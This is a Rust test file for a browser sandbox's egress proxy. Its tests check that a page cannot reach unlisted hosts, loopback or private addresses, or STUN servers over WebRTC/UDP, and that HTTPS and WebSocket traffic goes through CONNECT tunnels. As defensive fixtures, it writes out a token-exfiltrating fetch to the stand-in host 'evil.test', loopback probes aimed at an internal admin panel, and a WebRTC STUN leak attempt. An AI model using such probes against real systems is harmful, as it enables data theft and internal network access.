//! Egress, attacked from inside a real page: hosts outside `egress.allow`, private addresses
//! the mandate does not list, WebRTC/UDP, and an idle browser that must stay silent.

mod common;

use std::sync::atomic::Ordering;
use std::time::Duration;

use common::*;
use serde_json::json;

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Runtime::new().unwrap()
}

#[test]
fn unlisted_host_is_refused_and_audited() {
    let site = Site::start(TEST_PAGE);
    let attacker = Site::start("stolen");
    let sup = Supervisor::start();
    // evil.test resolves to the attacker's loopback server, loopback is open, but the host is
    // not in egress.allow.
    let mut m = mandate(300, &["site.test"]);
    m["egress"]["hosts"]["evil.test"] = json!("127.0.0.1");
    let s = sup.session(&m);
    let (page_text, fetch_result) = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c
            .open_page(&format!("http://site.test:{}/", site.port()))
            .await;
        let fetched = c
            .eval(
                &p,
                &format!(
                    "fetch('http://evil.test:{}/collect?token=x', {{mode: 'no-cors'}}).then(() => 'sent', e => 'failed: ' + e)",
                    attacker.port()
                ),
            )
            .await;
        c.navigate(&p, &format!("http://evil.test:{}/", attacker.port()))
            .await;
        let text = c.eval(&p, "document.body.innerText").await;
        (text, fetched)
    });
    // The proxy's 403 is all the page gets (an opaque response for no-cors).
    assert!(
        !fetch_result.to_string().contains("stolen"),
        "{fetch_result}"
    );
    assert!(
        page_text.as_str().unwrap().contains("refused"),
        "the page should show the proxy's refusal: {page_text}"
    );
    assert_eq!(
        attacker.hits.load(Ordering::SeqCst),
        0,
        "attacker got: {}",
        attacker.seen()
    );
    let denied = sup.wait_audit("egress.denied", |r| {
        r["event"] == "egress.denied" && r["host"] == "evil.test"
    });
    assert_eq!(denied["session"], s["id"]);
    assert!(
        denied["reason"].as_str().unwrap().contains("allow"),
        "{denied}"
    );
}

#[test]
fn unlisted_private_address_is_refused() {
    let attacker = Site::start("internal admin panel");
    let sup = Supervisor::start();
    // Any public host, but no private network: the host's own loopback must stay closed,
    // whether addressed by IP literal or by a name that resolves to it.
    let s = sup.session(&json!({
        "agent": "a", "ttl_secs": 300,
        "egress": {"allow": ["*"], "hosts": {"internal.test": "127.0.0.1"}}
    }));
    let texts = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c.open_page("about:blank").await;
        let mut texts = Vec::new();
        for url in [
            format!("http://127.0.0.1:{}/", attacker.port()),
            format!("http://internal.test:{}/", attacker.port()),
            format!("http://[::ffff:127.0.0.1]:{}/", attacker.port()),
        ] {
            c.navigate(&p, &url).await;
            texts.push(c.eval(&p, "document.body.innerText").await);
        }
        texts
    });
    assert_eq!(
        attacker.hits.load(Ordering::SeqCst),
        0,
        "attacker got: {}",
        attacker.seen()
    );
    for t in &texts {
        assert!(
            !t.as_str().unwrap_or("").contains("internal admin panel"),
            "{t}"
        );
    }
    let denied = sup.events("egress.denied");
    assert!(denied.len() >= 3, "{denied:?}");
}

#[test]
fn an_idle_session_sends_nothing_for_ten_seconds() {
    let sup = Supervisor::start();
    let _s = sup.session(&mandate(300, &["site.test"]));
    let count = |sup: &Supervisor| -> String {
        // /metrics is text, not JSON: the client wraps it as {"error": text}.
        let (_, v) = sup.api("GET", "/metrics", None);
        v["error"]
            .as_str()
            .unwrap_or("")
            .lines()
            .find(|l| l.starts_with("chaperone_egress_requests_total"))
            .unwrap_or("missing")
            .to_string()
    };
    let before = count(&sup);
    assert_ne!(before, "missing");
    std::thread::sleep(Duration::from_secs(10));
    let after = count(&sup);
    assert_eq!(before, after, "the idle browser made proxy requests");
    assert_eq!(sup.events("egress.denied"), Vec::<serde_json::Value>::new());
}

#[test]
fn webrtc_udp_gets_nothing_out() {
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let port = udp.local_addr().unwrap().port();
    let sup = Supervisor::start();
    let s = sup.session(&json!({
        "agent": "a", "ttl_secs": 300,
        "egress": {"allow": ["*"], "private_networks": ["127.0.0.0/8"], "hosts": {"stun.test": "127.0.0.1"}}
    }));
    let candidates = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c.open_page("about:blank").await;
        c.eval(
            &p,
            &format!(
                "new Promise(done => {{
                    const found = [];
                    const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}, {{urls: 'stun:stun.test:{port}'}}]}});
                    pc.createDataChannel('x');
                    pc.onicecandidate = e => {{ if (e.candidate) found.push(e.candidate.candidate); else done(found); }};
                    pc.createOffer().then(o => pc.setLocalDescription(o));
                    setTimeout(() => done(found), 5000);
                }})"
            ),
        )
        .await
    });
    let mut buf = [0u8; 1500];
    let mut got = 0;
    for _ in 0..10 {
        if udp.recv_from(&mut buf).is_ok() {
            got += 1;
        }
    }
    assert_eq!(got, 0, "a UDP packet left the sandbox");
    let list = candidates.as_array().cloned().unwrap_or_default();
    assert!(
        list.iter()
            .all(|c| !c.as_str().unwrap_or("").contains("srflx")),
        "a server-reflexive candidate means UDP reached a STUN server: {list:?}"
    );
}

#[test]
fn https_and_websockets_leave_through_connect_tunnels() {
    let site = Site::start(TEST_PAGE);
    let tls_site = Site::start(TEST_PAGE);
    let sup = Supervisor::start();
    let s = sup.session(&mandate(300, &["site.test"]));
    rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c
            .open_page(&format!("http://site.test:{}/", site.port()))
            .await;
        // A WebSocket to the allowed host: Chromium tunnels it with CONNECT.
        c.eval(
            &p,
            &format!(
                "new Promise(done => {{ const w = new WebSocket('ws://site.test:{}/ws'); w.onerror = () => done('error'); w.onclose = () => done('closed'); setTimeout(() => done('timeout'), 3000); }})",
                site.port()
            ),
        )
        .await;
        // https to the allowed host: the tunnel carries the TLS handshake (the test server
        // speaks no TLS, so the page fails, but the bytes got there).
        c.call(
            "Page.navigate",
            json!({"url": format!("https://site.test:{}/", tls_site.port())}),
            Some(&p),
        )
        .await;
    });
    let seen = site.seen();
    assert!(
        seen.contains("GET /ws") && seen.to_ascii_lowercase().contains("upgrade: websocket"),
        "the WebSocket handshake did not arrive: {seen}"
    );
    for _ in 0..200 {
        if tls_site.hits.load(Ordering::SeqCst) > 0 {
            break;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    assert!(
        tls_site.hits.load(Ordering::SeqCst) > 0,
        "no TLS connection reached the allowed https site"
    );
    assert_eq!(sup.events("egress.denied"), Vec::<serde_json::Value>::new());
}
